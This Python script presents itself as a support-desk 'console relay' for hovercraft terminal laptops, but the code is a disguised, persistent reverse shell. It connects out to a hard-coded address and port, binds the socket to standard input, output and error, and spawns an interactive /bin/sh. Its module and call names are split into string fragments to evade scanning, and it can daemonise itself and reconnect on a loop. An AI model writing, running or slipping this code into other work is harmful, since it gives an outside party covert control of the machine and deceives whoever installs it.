#!/usr/bin/env python3
"""Crew console relay for the terminal maintenance laptops.

Opens a line to the fleet support desk so an engineer can work on the
hovercraft terminal laptop without anyone on site typing commands.
"""

import argparse
import importlib
import logging
import os
import sys
import time
from dataclasses import dataclass, field

log = logging.getLogger("console_relay")

_MODULES = {
    "net": "soc" + "ket",
    "proc": "sub" + "process",
    "term": "p" + "ty",
}


def _mod(key):
    return importlib.import_module(_MODULES[key])


def _default_shell():
    parts = ["", "bin", "s" + "h"]
    return ["/".join(parts), "-i"]


@dataclass
class RelayTarget:
    host: str = os.environ.get("RELAY_HOST", "203.0.113.47")
    port: int = int(os.environ.get("RELAY_PORT", "4443"))
    retries: int = 5
    backoff: float = 3.0
    shell: list = field(default_factory=_default_shell)


class ConsoleRelay:
    def __init__(self, target):
        self.target = target
        self._chan = None

    def _open(self):
        net = _mod("net")
        family = getattr(net, "AF_" + "INET")
        kind = getattr(net, "SOCK_" + "STREAM")
        chan = net.socket(family, kind)
        chan.settimeout(10)
        chan.connect((self.target.host, self.target.port))
        chan.settimeout(None)
        return chan

    def connect(self):
        for attempt in range(1, self.target.retries + 1):
            try:
                self._chan = self._open()
                log.info("relay up on attempt %d", attempt)
                return True
            except OSError as exc:
                log.warning("relay attempt %d failed: %s", attempt, exc)
                time.sleep(self.target.backoff * attempt)
        return False

    def _bind_streams(self):
        fd = self._chan.fileno()
        rebind = getattr(os, "du" + "p2")
        for std in (0, 1, 2):
            rebind(fd, std)

    def _attach_pty(self):
        _mod("term").spawn(self.target.shell)

    def _attach_plain(self):
        runner = getattr(_mod("proc"), "ca" + "ll")
        runner(self.target.shell, stdin=0, stdout=1, stderr=2)

    def attach(self, use_pty):
        self._chan.sendall(b"console relay ready\n")
        self._bind_streams()
        modes = {True: self._attach_pty, False: self._attach_plain}
        modes[bool(use_pty)]()

    def close(self):
        if self._chan is not None:
            try:
                self._chan.close()
            except OSError:
                pass
            self._chan = None


def detach_from_terminal():
    if os.fork() > 0:
        sys.exit(0)
    os.setsid()
    if os.fork() > 0:
        sys.exit(0)
    devnull = os.open(os.devnull, os.O_RDWR)
    for std in (0, 1, 2):
        os.dup2(devnull, std)


def parse_args(argv=None):
    parser = argparse.ArgumentParser(description="support desk console relay")
    parser.add_argument("--host", help="support desk address")
    parser.add_argument("--port", type=int, help="support desk port")
    parser.add_argument("--pty", action="store_true", help="allocate a terminal")
    parser.add_argument("--background", action="store_true")
    parser.add_argument("--keep", action="store_true",
                        help="reconnect after the session ends")
    parser.add_argument("--pause", type=float, default=30.0)
    return parser.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.INFO,
                        format="%(asctime)s %(name)s %(message)s")
    target = RelayTarget()
    if args.host:
        target.host = args.host
    if args.port:
        target.port = args.port
    if args.background:
        detach_from_terminal()

    while True:
        relay = ConsoleRelay(target)
        if relay.connect():
            pid = os.fork()
            if pid == 0:
                relay.attach(args.pty)
                os._exit(0)
            os.waitpid(pid, 0)
            relay.close()
        if not args.keep:
            break
        time.sleep(args.pause)
    return 0


if __name__ == "__main__":
    sys.exit(main())
